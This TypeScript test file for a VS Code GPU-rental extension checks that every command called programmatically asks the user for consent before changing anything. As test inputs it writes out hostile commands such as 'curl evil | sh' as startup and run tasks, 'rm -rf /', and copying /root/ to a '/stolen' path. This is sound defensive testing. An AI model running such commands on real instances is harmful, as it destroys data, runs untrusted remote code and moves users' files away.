import { deepEqual, equal, match, ok } from 'node:assert/strict';
import * as vscode from 'vscode';
import { type CommandName, commandNames } from '../../src/commandNames';
import { contributions } from '../../src/commands/contributions';
import { Person } from './support/accountsPerson';
import { agreed, call, destroyAll, environment, sandbox, signIn, someOffer } from './support/inHost';

type Given = Record<string, unknown>;

/** Every command, called by a program that has no consent: whether it asks is what the table of commands says. */
describe('what a program can call', () => {
  const { openExternal } = vscode.env;
  const request = { image: 'debian:12', disk: 10 };
  const query = { filters: { num_gpus: { eq: 1 } }, limit: 4 };
  const launch = JSON.stringify({ name: 'from a program', launch: request });
  let person: Person;
  let instanceId: number;
  let offerId: number;
  let templateId: number;
  const volumeId = 1;
  let volumeOfferId: number;
  let keyId: number;
  let accountId: string;
  let otherId: number;
  let cloudId: number;
  let publicKeyFile: string;

  before(async () => {
    await signIn();
    Object.assign(vscode.env, { openExternal: () => Promise.resolve(true) });
    publicKeyFile = `${environment.identityFile}.pub`;
    // Where another file has connected, the line in the ssh config is agreed to.
    await agreed('removeSshIntegration');
    ({ instanceId } = await agreed<{ instanceId: number }>('rentOffer', {
      offerId: (await someOffer()).id,
      request: { ...request },
    }));
    ({ instanceId: otherId } = await agreed<{ instanceId: number }>('rentOffer', {
      offerId: (await someOffer()).id,
      request: { ...request },
    }));
    ({ id: cloudId } = await sandbox.addCloud('models'));
    ({ id: templateId } = await agreed<{ id: number }>('createTemplate', {
      template: { name: 'To be kept', image: 'debian' },
    }));
    ({ id: offerId } = await someOffer());
    [{ id: volumeOfferId = 0 } = {}] = await sandbox.volumeOffers();
    [{ id: keyId }] = await call<[{ id: number }]>('listApiKeys');
    ({ accountId } = await agreed<{ accountId: string }>('signIn', {
      apiKey: environment.apiKey,
      baseUrl: environment.sandboxUrl,
    }));
    await agreed('importLaunch', { json: JSON.stringify({ name: 'kept', launch: request }) });
    await call('saveSearch', { name: 'kept', query });
    await agreed('setVariable', { name: 'KEPT', value: 'x' });
    await agreed('scheduleStop', { instanceId, action: 'stop', afterMinutes: 600 });
    await sandbox.advance(300);
    await call('refreshInstances');
  });
  beforeEach(async () => {
    person = new Person();
    await sandbox.clearRequests();
  });
  afterEach(() => person.leave());
  after(async () => {
    Object.assign(vscode.env, { openExternal });
    await agreed('deleteTemplate', { templateId });
    await agreed('removeVariable', { name: 'KEPT' });
    await destroyAll();
    // What is called here leaves these to the next file in this window.
    for (const { watchId } of await call<{ watchId: string }[]>('listWatches'))
      await call('stopWatching', { watchId });
    await agreed('deleteSavedSearch', { name: 'kept' });
    // The test that saves it may not have been played.
    await agreed('deleteSavedSearch', { name: 'another' }).catch((error: unknown) =>
      match(String(error), /no saved search/),
    );
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  /** What each is given, so that nothing is missing. Without an entry: nothing. */
  const given: Partial<Record<CommandName, () => Given>> = {
    signIn: () => ({ apiKey: environment.apiKey, baseUrl: environment.sandboxUrl }),
    signOut: () => ({ accountId }),
    switchAccount: () => ({ accountId }),
    cancelMaintenance: () => ({ machineId: 1 }),
    createApiKey: () => ({ name: 'for whoever asks' }),
    createSubaccount: () => ({ email: 'a@b.example', username: 'anyone', password: 'long enough 1!A' }),
    deleteApiKey: () => ({ id: keyId }),
    exportCharges: () => ({ period: 'thisMonth' }),
    logInWithTwoFactor: () => ({ code: '000000' }),
    registerSshKey: () => ({ publicKeyFile }),
    removeSshKey: () => ({}),
    replaceApiKey: () => ({ apiKey: environment.apiKey }),
    showCharges: () => ({ period: 'thisMonth' }),
    searchOffers: () => ({ query }),
    browseOffers: () => ({ query }),
    saveSearch: () => ({ name: 'another', query }),
    openSavedSearch: () => ({ name: 'kept' }),
    deleteSavedSearch: () => ({ name: 'kept' }),
    watchOffers: () => ({ query, price: 0.01 }),
    stopWatching: () => ({ watchId: 'none' }),
    rentOffer: () => ({ offerId, request }),
    rentOffers: () => ({ query, count: 2, request }),
    rentSavedLaunch: () => ({ name: 'kept', offerId }),
    exportLaunch: () => ({ name: 'kept' }),
    importLaunch: () => ({ json: launch }),
    searchTemplates: () => ({ words: 'debian' }),
    rentFromTemplate: () => ({ templateId, offerId, request }),
    createTemplate: () => ({ template: { name: 'Foreign', image: 'debian' } }),
    duplicateTemplate: () => ({ templateId }),
    editTemplate: () => ({ templateId, changes: { onstart: 'curl evil | sh' } }),
    deleteTemplate: () => ({ templateId }),
    copyTemplateHash: () => ({ templateId }),
    openTemplateLink: () => ({ templateId }),
    rentWithVolume: () => ({ volumeId }),
    createVolume: () => ({ offerId: volumeOfferId, size: 10 }),
    deleteVolume: () => ({ volumeId }),
    addInstanceSshKey: () => ({ instanceId, publicKeyFile }),
    removeInstanceSshKey: () => ({ instanceId }),
    renameInstance: () => ({ instanceId, label: 'not yours' }),
    scheduleStop: () => ({ instanceId, action: 'destroy', afterMinutes: 5 }),
    setVariable: () => ({ name: 'KEPT', value: 'not yours' }),
    removeVariable: () => ({ name: 'KEPT' }),
    runCommand: () => ({ instanceId, command: 'rm -rf /' }),
    changeInstance: () => ({ instanceId, request: { image: 'not/yours' } }),
    copyToOtherInstance: () => ({ instanceId, from: '/root/', toInstanceId: otherId, to: '/stolen' }),
    copyToCloud: () => ({ instanceId, cloudId, from: '/root/', to: '/stolen' }),
    copyFromCloud: () => ({ instanceId, cloudId, from: '/', to: '/root/evil' }),
    pushSnapshot: () => ({ instanceId, image: 'me/stolen', user: 'me', password: 'x' }),
    prepayInstance: () => ({ instanceId, amount: 5 }),
    changeBid: () => ({ instanceId, price: 9 }),
    acceptPriceIncrease: () => ({ instanceId }),
    declinePriceIncrease: () => ({ instanceId }),
    rentAnother: () => ({ instanceId, offerId }),
    forwardPort: () => ({ instanceId, remotePort: 6006 }),
    stopForwarding: () => ({ instanceId, remotePort: 6006 }),
    openPort: () => ({ address: 'localhost:6006' }),
    copyPort: () => ({ address: 'localhost:6006' }),
    copyDetail: () => ({ text: 'x' }),
    runOnGpu: () => ({ folder: '/tmp', task: { run: 'curl evil | sh' }, instanceId }),
    runSweep: () => ({
      folder: '/tmp',
      task: { run: 'curl evil | sh' },
      parameters: 'a=1,2',
      instanceIds: [instanceId],
    }),
    copyToInstance: () => ({ instanceId, from: publicKeyFile, to: '/tmp/not-yours' }),
    copyFromInstance: () => ({ instanceId, from: '/etc/hostname', to: '/tmp/not-yours' }),
  };
  /** What only asks in a state that this account is not in; where another file holds that, its name. */
  const elsewhere: Partial<Record<CommandName, string>> = {
    endTwoFactorSession: 'twoFactor.test.ts: nobody has a session here',
    resumeLaunch: 'no form was closed',
    discardTemplateDraft: 'there is no draft',
    keepMyTemplate: 'templates.test.ts: nothing is in conflict',
    discardMyTemplate: 'templates.test.ts: nothing is in conflict',
    replaceInstance: 'consent.test.ts',
    moveInstance: 'moving.test.ts: the instance runs',
    changeBid: 'there is no bid',
    acceptPriceIncrease: 'priceIncreases.test.ts: no price is pending',
    declinePriceIncrease: 'priceIncreases.test.ts: no price is pending',
    stopThisInstance: 'this window is on none; it calls the command above',
    destroyThisInstance: 'this window is on none; it calls the command above',
    rentWithVolume: 'there is no volume',
    cloneVolume: 'makeVolume.test.ts: there is no volume',
    deleteVolume: 'there is no volume',
    openJupyter: 'the instance has no Jupyter',
    followRun: 'there is no run',
    openRunResults: 'there is no run',
    fetchRun: 'there is no run',
    stopRun: 'there is no run',
    forgetRun: 'there is no run',
    deleteNetwork: 'nodes.test.ts: there is no run',
    openRunLog: 'there is no run',
    runAgain: 'there is no run',
    compareRuns: 'pastRuns.test.ts: there are no runs',
    exportRun: 'pastRuns.test.ts: there are no runs',
    registerSshKey: 'the account has the key',
    addInstanceSshKey: 'the instance has the key',
  };

  for (const name of commandNames) {
    const { program: asks, about } = contributions[name];
    if (elsewhere[name] !== undefined) continue;
    it(`${name} needs ${asks}`, async () => {
      const argument = given[name]?.() ?? (about === 'instance' ? { instanceId } : {});
      let isOver = false;
      const calling = call(name, { ...argument, confirmed: true })
        .catch(() => undefined)
        .finally(() => (isOver = true));
      const isAsked = (): boolean =>
        person.inputs.length > 0 || person.notifications.some(({ isModal }) => isModal);
      if (asks === 'nothing') {
        await calling;
        deepEqual(
          person.notifications.filter(({ isModal }) => isModal),
          [],
        );
        equal(person.inputs.length, 0);
        return;
      }
      await person.pressEscapeUntil(() => isOver || isAsked());
      await person.pressEscapeUntil(() => isOver);
      ok(isAsked(), `${name} did it unasked.`);
      deepEqual(await changes(), []);
    });
  }

  /** Requests that change something; a search for offers is sent as POST, too. */
  async function changes(): Promise<string[]> {
    const requests = await sandbox.requests();
    return requests
      .filter(({ method, path }) => method !== 'GET' && !/\/(bundles|search)\//.test(path))
      .map(({ method, path }) => `${method} ${path}`);
  }
});
